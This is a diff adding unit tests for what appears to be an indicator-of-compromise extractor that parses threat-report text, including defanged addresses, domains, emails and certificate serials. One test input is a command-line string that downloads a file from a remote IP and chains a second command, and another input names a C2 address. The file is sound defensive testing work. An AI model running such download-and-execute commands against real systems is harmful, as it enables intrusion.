@@ -51,6 +51,34 @@ static void a_plain_name_that_stands_alone_counts_all_the_same(void **state)
         "domain evil.com 1\ndomain bad.net 2\ndomain also-bad.org 3\n1 rejected");
 }
 
+static void what_is_defanged_elsewhere_is_meant_plain_too(void **state)
+{
+    (void)state;
+    assert_named("It calls 45.9.1.2:443 and 45.9.1.9:443.\nC2 is 45.9.1[.]2.\n",
+                 "address:port 45.9.1.2:443 1\naddress 45.9.1.2 2\n1 rejected");
+}
+
+static void what_a_list_names_is_meant_though_many_use_it(void **state)
+{
+    (void)state;
+    assert_named("ADDITIONAL TRAFFIC OBSERVED\napi.ipify.org\nonedrive.live.com\n\n"
+                 "SENDERS OBSERVED\nstorm@yahoo.com\n",
+                 "domain api.ipify.org 2\ndomain onedrive.live.com 3\nemail storm@yahoo.com 6\n"
+                 "0 rejected");
+}
+
+static void keys_blanks_and_program_text_are_no_indicators(void **state)
+{
+    (void)state;
+    assert_named("Serial Number:\n    f0:fb:13:90:f5:34:0c:d2:57:24:51:d9:5d:b1:d9:2d\n"
+                 "X509v3 Subject Key Identifier:\n"
+                 "    DC:A6:AF:36:5F:E2:16:5B:33:49:41:EB:A6:5D:3D:E2:FC:0D:BC:D8\n",
+                 "certificate-serial f0fb1390f5340cd2572451d95db1d92d 2\n1 rejected");
+    assert_named("They look like _ _ _deal.com today\n", "1 rejected");
+    assert_named("curl -o a http://45.9.1.2/x.dat&&%windir%\\b\n", "url 45.9.1.2/x.dat 1\n"
+                                                                   "0 rejected");
+}
+
 static void addresses_and_names_are_judged_apart(void **state)
 {
     (void)state;
@@ -297,6 +325,9 @@ int main(void)
         cmocka_unit_test(what_is_defanged_counts_in_any_language),
         cmocka_unit_test(where_names_are_defanged_plain_ones_are_mentions),
         cmocka_unit_test(a_plain_name_that_stands_alone_counts_all_the_same),
+        cmocka_unit_test(what_is_defanged_elsewhere_is_meant_plain_too),
+        cmocka_unit_test(what_a_list_names_is_meant_though_many_use_it),
+        cmocka_unit_test(keys_blanks_and_program_text_are_no_indicators),
         cmocka_unit_test(addresses_and_names_are_judged_apart),
         cmocka_unit_test(where_nothing_is_defanged_plain_things_count),
         cmocka_unit_test(what_only_looks_like_one_is_rejected),
